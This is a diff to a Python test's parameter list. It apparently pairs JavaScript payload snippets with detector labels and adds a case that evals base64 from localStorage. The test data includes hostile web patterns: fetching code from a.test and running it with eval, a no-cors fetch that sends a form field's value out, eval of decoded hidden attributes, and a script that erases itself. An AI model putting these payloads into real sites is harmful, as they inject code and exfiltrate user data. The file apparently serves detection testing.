@@ -690,9 +690,10 @@ def test_other_constants_spell_nothing(source: str) -> None:
         ("history.pushState(1,'','/');location='https://a.test/'", {"history"}),
         ("fetch('https://a.test/').then(r=>r.text()).then(eval)", {"runs"}),
         ("fetch('https://a.test/',{mode:'no-cors',body:f.value})", {"blind"}),
-        ("eval(atob(document.getElementById('a').dataset.b))", {"kept"}),
-        ("eval(atob(this.alt))", {"kept"}),
-        ("new Function(unescape(x.title))()", {"kept"}),
+        ("eval(atob(document.getElementById('a').dataset.b))", {"held"}),
+        ("eval(atob(this.alt))", {"held"}),
+        ("new Function(unescape(x.title))()", {"held"}),
+        ("var t=localStorage.getItem('a');eval(atob(t))", {"stored"}),
         (f"{INNER};document.currentScript.remove()", {"erases"}),
     ],
 )
